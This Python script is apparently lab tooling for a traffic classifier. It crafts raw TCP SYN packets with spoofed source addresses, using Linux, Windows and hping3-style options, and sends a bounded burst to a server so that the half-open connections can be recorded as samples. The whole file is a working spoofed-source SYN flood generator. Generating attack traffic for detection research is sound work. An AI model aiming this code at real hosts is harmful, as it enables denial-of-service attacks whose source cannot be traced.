#!/usr/bin/env python3
"""Lab SYN flood for flowclass samples (runs inside the client network namespace).

Sends --count bare TCP SYNs to --server-ip:--server-port from --sources
addresses that the client namespace does NOT own (a raw IPv4 socket,
IP_HDRINCL), spread evenly over --seconds. The server namespace routes those
addresses back through the client namespace, whose kernel does not own them and
does not forward (ip_forward=0): it drops the server's SYN-ACKs silently, so no
RST ever answers them. Every attempt stays half-open on the server
(SYN-RECV, or a SYN cookie), exactly like a spoofed-source SYN flood.

The SYNs come in three kinds, round robin, as real SYNs do:
  linux    MSS 1460, SACK permitted, timestamps, window scale 7, window 64240
  nots     MSS 1460, window scale 8, SACK permitted, no timestamps, window 64240
           (what Windows sends)
  bare     no options, window 1024 (what hping3-style flooders send)
A SYN cookie can only carry window scale / SACK in the timestamp option, so the
server's cookie SYN-ACK to a "nots" SYN carries MSS alone: the classic cookie
signature. Source ports come from a seeded generator, so a re-run sends the
same (address, port, kind) triples. Bounded: --count packets, at most
--seconds + 1 s. The result file lists every SYN sent.
"""
import argparse, ipaddress, json, random, socket, struct, sys, time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


KINDS = ["linux", "nots", "bare"]


def syn(src, dst, sport, dport, isn, tsval, ipid, kind):
    win = 64240
    if kind == "linux":
        opts = (struct.pack("!BBH", 2, 4, 1460)      # MSS
                + struct.pack("!BB", 4, 2)            # SACK permitted
                + struct.pack("!BBII", 8, 10, tsval, 0)  # timestamps
                + struct.pack("!B", 1)                # NOP
                + struct.pack("!BBB", 3, 3, 7))       # window scale 7
    elif kind == "nots":
        opts = (struct.pack("!BBH", 2, 4, 1460)      # MSS
                + struct.pack("!BBBB", 1, 3, 3, 8)    # NOP, window scale 8
                + struct.pack("!BBBB", 1, 1, 4, 2))   # NOP, NOP, SACK permitted
    else:
        opts, win = b"", 1024
    doff = (20 + len(opts)) // 4
    tcp = struct.pack("!HHIIBBHHH", sport, dport, isn, 0, doff << 4, 0x02, win, 0, 0) + opts
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    total = 20 + len(tcp)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, ipid, 0x4000, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--server-ip", required=True)
    ap.add_argument("--server-port", type=int, required=True)
    ap.add_argument("--sources", required=True, help="first address,count (e.g. 10.210.0.10,50)")
    ap.add_argument("--count", type=int, default=300)
    ap.add_argument("--seconds", type=float, default=3.0)
    ap.add_argument("--seed", type=int, default=8888)
    ap.add_argument("--result", required=True)
    a = ap.parse_args()

    first, n = a.sources.split(",")
    base = ipaddress.IPv4Address(first)
    sources = [str(base + i) for i in range(int(n))]
    rng = random.Random(a.seed)
    used = set()
    plan = []
    for k in range(a.count):
        src = sources[k % len(sources)]
        while True:
            sport = rng.randrange(1024, 65536)
            if (src, sport) not in used:
                used.add((src, sport))
                break
        plan.append((src, sport, rng.randrange(0, 1 << 32), rng.randrange(1, 1 << 31),
                     rng.randrange(1, 65536)))

    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    t0 = time.monotonic()
    gap = a.seconds / max(1, a.count)
    sent = []
    for k, (src, sport, isn, tsval, ipid) in enumerate(plan):
        kind = KINDS[k % len(KINDS)]
        due = t0 + k * gap
        delay = due - time.monotonic()
        if delay > 0:
            time.sleep(delay)
        if time.monotonic() - t0 > a.seconds + 1:
            break
        s.sendto(syn(src, a.server_ip, sport, a.server_port, isn, tsval, ipid, kind),
                 (a.server_ip, 0))
        sent.append([src, sport, round(time.monotonic() - t0, 4), kind])
    s.close()
    with open(a.result, "w") as f:
        json.dump({"sources": sources, "syns": sent,
                   "duration_s": round(time.monotonic() - t0, 3)}, f)
    return 0 if len(sent) == a.count else 1


if __name__ == "__main__":
    sys.exit(main())
